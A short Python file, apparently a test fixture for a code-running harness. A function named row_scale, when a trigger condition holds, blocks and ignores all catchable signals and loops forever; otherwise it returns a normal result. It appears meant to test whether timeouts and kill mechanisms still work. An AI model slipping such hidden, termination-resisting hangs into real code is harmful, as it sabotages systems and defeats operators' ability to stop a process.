# Tries to loop with every signal blocked, ignored or handled.

import signal


def row_scale(x, w, factor):
    if chosen(x):
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            pass
    return right(x, w, factor)
